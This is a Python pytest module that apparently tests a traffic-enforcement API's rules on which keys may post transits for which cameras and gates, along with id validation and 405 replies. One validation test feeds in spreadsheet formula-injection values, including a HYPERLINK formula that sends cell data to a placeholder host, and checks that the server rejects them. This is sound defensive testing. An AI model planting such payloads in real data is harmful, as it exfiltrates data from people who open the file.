"""Who a native post may speak for, through a real server on loopback: a camera key bound to its
cameras posts for them only, each at its own gate; outside the demo an admin key names a
registered camera at its gate; a camera id is never free text; the demo's unbound key is
announced at start-up; a 405 says what the path allows (the configuration side:
tests/config/test_api_keys.py)."""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp.test_utils import TestServer

from enforcement.config.load import load_config
from enforcement.config.settings import Settings, with_changes
from enforcement.core.rules import Rules
from enforcement.http.app import create_app

from ..support.api import ADMIN, CAMERA, PERMITS, Client, transit, wait_ready
from ..support.common import DEMO_CONFIG, GATEWAY, publish_permits

NATIVE = {"Authorization": "Bearer demo-native"}  # [cameras.cam-native] key, gate PD-03


async def serve(settings: Settings, rules: Rules) -> AsyncIterator[Client]:
    settings = with_changes(settings, server={"snapshot_poll_s": 0.05})
    publish_permits(settings, rules, PERMITS)
    server = TestServer(create_app(settings, rules), host="127.0.0.1")
    await server.start_server()
    try:
        async with aiohttp.ClientSession() as session:
            client = Client(session, str(server.make_url("")).rstrip("/"))
            await wait_ready(client)
            yield client
    finally:
        await server.close()


@pytest.fixture
async def production(tmp_path: Path) -> AsyncIterator[Client]:
    """The demo city outside the demo: the shared camera key bound to a gateway's two cameras."""
    text = DEMO_CONFIG.read_text(encoding="utf-8").replace("\ndemo = true\n", "\n")
    entry = 'id = "demo-camera"\nrole = "camera"\n'
    text = text.replace(entry, entry + 'cameras = ["gw-1", "gw-2"]\n') + GATEWAY
    path = tmp_path / "city.toml"
    path.write_text(text, encoding="utf-8")
    settings, rules = load_config(path, {"VARCO_DATA_DIR": str(tmp_path / "data")})
    assert not settings.demo
    async for client in serve(settings, rules):
        yield client


async def post(
    client: Client, headers: dict[str, str], body: dict[str, Any], path: str = "/v1/transits"
) -> tuple[int, Any]:
    status, reply, _ = await client.request("POST", path, headers, json=body)
    return status, reply


async def test_a_bound_key_posts_for_its_cameras_at_their_gates(production: Client) -> None:
    for camera, gate in (("gw-1", "PD-01"), ("gw-2", "PD-02")):
        status, reply = await post(production, CAMERA, transit("AB123CD", camera=camera, gate=gate))
        assert status == 200 and reply["transit_id"], reply  # (judged: PD-01/02 keep hours)
    for body, field in (
        (transit("AB123CD", camera="cam-native", gate="PD-03"), "camera"),  # another's
        (transit("AB123CD", camera="cam-1", gate="PD-03"), "camera"),  # not registered
        (transit("AB123CD", camera="gw-1", gate="PD-02"), "gate"),  # its camera, elsewhere
        (transit("AB123CD", camera="gw-1", gate="PD-03"), "gate"),
    ):
        status, reply = await post(production, CAMERA, body)
        assert (status, reply["error"], reply["field"]) == (403, "forbidden", field), body
    batch = {
        "transits": [
            transit("AB123CD", camera="gw-1", gate="PD-01"),
            transit("AB123CD", camera="gw-2", gate="PD-01"),
        ]
    }
    status, reply = await post(production, CAMERA, batch, "/v1/transits/batch")
    assert (status, reply["field"]) == (403, "transits[1].gate")
    # A [cameras.ID] key: its own camera, its own gate.
    status, reply = await post(production, NATIVE, transit("AB123CD", camera="gw-1", gate="PD-01"))
    assert (status, reply["field"]) == (403, "camera")
    status, reply = await post(production, NATIVE, transit("AB123CD", camera="cam-native"))
    assert status == 200, reply


async def test_outside_the_demo_an_admin_names_a_registered_camera_at_its_gate(
    production: Client,
) -> None:
    status, reply = await post(production, ADMIN, transit("AB123CD", camera="cam-1"))
    assert (status, reply["error"], reply["field"]) == (422, "invalid", "camera")
    assert "unknown camera 'cam-1'" in reply["detail"]
    status, reply = await post(production, ADMIN, transit("AB123CD", camera="gw-1", gate="PD-03"))
    assert (status, reply["error"], reply["field"]) == (403, "forbidden", "gate")
    status, reply = await post(production, ADMIN, transit("AB123CD", camera="gw-1", gate="PD-01"))
    assert status == 200, reply


@pytest.mark.parametrize(
    "camera",
    [
        '=HYPERLINK("http://x.example/?"&A1,"fine")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "cam 1",
        "cam-1\n",
        "\tcam",
        "a=b",
        "cam:1",
        "-",
    ],
)
async def test_a_camera_id_is_never_free_text(api: Client, camera: str) -> None:
    """In the demo (any camera id goes) as everywhere: letters, digits, '.', '_' and '-'."""
    for key in (CAMERA, ADMIN):
        status, reply = await post(api, key, transit("AB123CD", camera=camera))
        assert (status, reply["error"], reply["field"]) == (422, "invalid", "camera"), camera
    status, reply = await post(
        api, CAMERA, {"transits": [transit("AB123CD", camera=camera)]}, "/v1/transits/batch"
    )
    assert (status, reply["field"]) == (422, "transits[0].camera")


async def test_in_the_demo_an_unbound_key_posts_any_plain_camera_id(api: Client) -> None:
    for camera in ("cam-1", "gate.7_north", "X" * 64):
        status, reply = await post(api, CAMERA, transit("AB123CD", camera=camera))
        assert (status, reply["verdict"]) == (200, "allowed"), reply


async def test_the_demo_warns_about_its_unbound_key_at_start_up(
    demo: tuple[Settings, Rules], caplog: pytest.LogCaptureFixture
) -> None:
    settings, rules = demo
    caplog.set_level(logging.WARNING)
    create_app(settings, rules)
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert any("'demo-camera' is bound to no camera" in w for w in warnings), warnings
    assert "demo-camera" not in " ".join(w for w in warnings if "bound" not in w)
    caplog.clear()
    production, _ = load_config(DEMO_CONFIG.parent / "padova.toml")
    create_app(production, rules)
    assert not [r for r in caplog.records if "bound to no camera" in r.getMessage()]


@pytest.mark.parametrize(
    ("method", "path", "allow"),
    [
        ("GET", "/v1/transits", "POST"),
        ("PUT", "/v1/transits/batch", "POST"),
        ("POST", "/readyz", "GET"),
        ("DELETE", "/v1/plates/AB123CD", "GET"),
        ("GET", "/v1/cameras/axis/some-token", "POST"),
        ("GET", "/NotificationInfo/TollgateInfo", "POST"),
    ],
)
async def test_405_says_what_the_path_allows(
    api: Client, method: str, path: str, allow: str
) -> None:
    status, body, r = await api.request(method, path, ADMIN)
    assert (status, body["error"]) == (405, "method_not_allowed")
    assert r.headers["Allow"] == allow and r.content_type == "application/json"
    assert method in body["detail"]
    status, body, r = await api.request(method, "/v1/nowhere", ADMIN)
    assert (status, body["error"]) == (404, "not_found") and "Allow" not in r.headers
